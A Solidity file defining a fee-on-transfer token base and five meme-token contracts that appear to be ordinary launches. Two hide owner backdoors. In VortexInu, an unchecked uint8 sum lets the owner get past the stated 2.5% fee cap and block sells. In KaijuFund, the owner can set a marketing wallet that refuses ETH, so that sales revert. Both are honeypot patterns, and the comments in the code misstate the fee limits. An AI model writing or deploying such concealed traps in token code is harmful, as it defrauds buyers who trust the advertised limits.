// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ISwapFactory, ISwapRouter02} from "./w00Kit.sol";

/// The usual token with a fee, which it sells in front of sales.
abstract contract SwapBackLaunch is ERC20, Ownable {
  ISwapRouter02 public constant uniswapV2Router = ISwapRouter02(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
  address public immutable uniswapV2Pair;
  mapping(address => bool) public isExcludedFromFees;
  bool internal swapping;

  constructor(string memory n, string memory s) ERC20(n, s) Ownable(msg.sender) {
    uniswapV2Pair = ISwapFactory(uniswapV2Router.factory()).createPair(address(this), uniswapV2Router.WETH());
    isExcludedFromFees[msg.sender] = true;
    isExcludedFromFees[address(this)] = true;
    _mint(msg.sender, 1_000_000_000 ether);
    _approve(address(this), address(uniswapV2Router), type(uint256).max);
  }

  receive() external payable {}

  /// In thousandths of what is traded.
  function _feeOf(bool sale) internal view virtual returns (uint256);

  function _swapBackIsDue() internal view virtual returns (bool);

  function _swapBack() internal virtual;

  function _update(address from, address to, uint256 amount) internal virtual override {
    bool trade = from == uniswapV2Pair || to == uniswapV2Pair;
    if (!trade || swapping || isExcludedFromFees[from] || isExcludedFromFees[to]) {
      super._update(from, to, amount);
      return;
    }
    if (to == uniswapV2Pair && _swapBackIsDue()) {
      swapping = true;
      _swapBack();
      swapping = false;
    }
    uint256 fee = (amount * _feeOf(to == uniswapV2Pair)) / 1_000;
    if (fee > 0) super._update(from, address(this), fee);
    super._update(from, to, amount - fee);
  }

  function _path() internal view returns (address[] memory path) {
    path = new address[](2);
    path[0] = address(this);
    path[1] = uniswapV2Router.WETH();
  }

  function _sellForEth(uint256 amount) internal {
    uniswapV2Router.swapExactTokensForETHSupportingFeeOnTransferTokens(
      amount,
      0,
      _path(),
      address(this),
      block.timestamp
    );
  }
}

contract VortexInu is SwapBackLaunch {
  uint8 public marketingFee = 5;
  uint8 public liquidityFee = 3;
  uint8 public devFee = 2;
  uint256 public constant sellMultiplier = 2;
  address payable public immutable marketingWallet = payable(msg.sender);

  event FeesUpdated(uint8 marketing, uint8 liquidity, uint8 dev);

  constructor() SwapBackLaunch("Vortex Inu", "VORTEX") {}

  /// Thousandths, so that no more than 2.5% of a purchase, and twice that of a sale.
  function updateFees(uint8 _marketing, uint8 _liquidity, uint8 _dev) external onlyOwner {
    unchecked {
      require(_marketing + _liquidity + _dev <= 25, "Must keep fees at 2.5% or less");
    }
    marketingFee = _marketing;
    liquidityFee = _liquidity;
    devFee = _dev;
    emit FeesUpdated(_marketing, _liquidity, _dev);
  }

  function _feeOf(bool sale) internal view override returns (uint256) {
    uint256 total = uint256(marketingFee) + liquidityFee + devFee;
    return sale ? total * sellMultiplier : total;
  }

  function _swapBackIsDue() internal view override returns (bool) {
    return balanceOf(address(this)) >= 500_000 ether;
  }

  function _swapBack() internal override {
    _sellForEth(500_000 ether);
    (bool ok, ) = marketingWallet.call{value: address(this).balance}("");
    ok;
  }
}

contract KaijuFund is SwapBackLaunch {
  address payable public marketingWallet;
  uint256 public constant swapTokensAtAmount = 30_000 ether;

  event MarketingWalletUpdated(address indexed newWallet, address indexed oldWallet);

  constructor() SwapBackLaunch("Kaiju Fund", "KAIJU") {
    marketingWallet = payable(msg.sender);
  }

  function updateMarketingWallet(address payable newWallet) external onlyOwner {
    require(newWallet != address(0) && newWallet != marketingWallet, "Same wallet");
    emit MarketingWalletUpdated(newWallet, marketingWallet);
    marketingWallet = newWallet;
  }

  function _feeOf(bool) internal pure override returns (uint256) {
    return 30;
  }

  function _swapBackIsDue() internal view override returns (bool) {
    return balanceOf(address(this)) >= swapTokensAtAmount;
  }

  function _swapBack() internal override {
    _sellForEth(swapTokensAtAmount);
    (bool success, ) = marketingWallet.call{value: address(this).balance}("");
    require(success, "Failed to send ETH to marketing");
  }
}

/// Fees may go to nothing, and never above three percent.
contract ZeroTaxDay is SwapBackLaunch {
  uint256 public tax = 20;
  uint256 public swapTokensAtAmount = 200_000 ether;
  uint256 public maxSwap = 2_000_000 ether;
  address payable private _taxWallet;

  constructor() SwapBackLaunch("Zero Tax Day", "ZTD") {
    _taxWallet = payable(msg.sender);
  }

  function reduceFee(uint256 newFee) external {
    require(msg.sender == _taxWallet);
    require(newFee <= tax, "Fees only go down");
    tax = newFee;
  }

  function setSwapTokensAtAmount(uint256 amount) external {
    require(msg.sender == _taxWallet);
    require(amount <= totalSupply() / 200, "No more than 0.5%");
    swapTokensAtAmount = amount;
  }

  function manualSwap() external {
    require(msg.sender == _taxWallet);
    swapping = true;
    uint256 held = balanceOf(address(this));
    if (held > 0) _sellForEth(held);
    swapping = false;
    _taxWallet.transfer(address(this).balance);
  }

  function _feeOf(bool) internal view override returns (uint256) {
    return tax;
  }

  function _swapBackIsDue() internal view override returns (bool) {
    return balanceOf(address(this)) >= swapTokensAtAmount;
  }

  function _swapBack() internal override {
    uint256 held = balanceOf(address(this));
    _sellForEth(held > maxSwap ? maxSwap : held);
    (bool ok, ) = _taxWallet.call{value: address(this).balance}("");
    ok;
  }
}

contract SteadyPaws is SwapBackLaunch {
  uint8 public marketingFee = 10;
  uint8 public liquidityFee = 5;
  uint8 public devFee = 5;
  address public feeWallet;

  constructor() SwapBackLaunch("Steady Paws", "STEADY") {
    feeWallet = msg.sender;
  }

  function updateFees(uint8 _marketing, uint8 _liquidity, uint8 _dev) external onlyOwner {
    require(uint256(_marketing) + _liquidity + _dev <= 30, "Must keep fees at 3% or less");
    marketingFee = _marketing;
    liquidityFee = _liquidity;
    devFee = _dev;
  }

  function setFeeWallet(address wallet) external onlyOwner {
    feeWallet = wallet;
  }

  function claimFees() external {
    require(msg.sender == feeWallet);
    (bool ok, ) = feeWallet.call{value: address(this).balance}("");
    require(ok);
  }

  function _feeOf(bool) internal view override returns (uint256) {
    return uint256(marketingFee) + liquidityFee + devFee;
  }

  function _swapBackIsDue() internal view override returns (bool) {
    return balanceOf(address(this)) >= 100_000 ether;
  }

  function _swapBack() internal override {
    try
      uniswapV2Router.swapExactTokensForETHSupportingFeeOnTransferTokens(
        100_000 ether,
        0,
        _path(),
        address(this),
        block.timestamp
      )
    {} catch {}
  }
}

contract WalletTip is SwapBackLaunch {
  address public tipJar;

  constructor() SwapBackLaunch("Wallet Tip", "TIPPY") {
    tipJar = msg.sender;
  }

  function setTipJar(address jar) external onlyOwner {
    tipJar = jar;
  }

  function _feeOf(bool) internal pure override returns (uint256) {
    return 20;
  }

  function _swapBackIsDue() internal view override returns (bool) {
    return balanceOf(address(this)) >= 120_000 ether;
  }

  function _swapBack() internal override {
    _sellForEth(120_000 ether);
    address jar = tipJar;
    uint256 value = address(this).balance;
    // Whoever refuses the tip leaves it for later.
    assembly {
      pop(call(30000, jar, value, 0, 0, 0, 0))
    }
  }
}
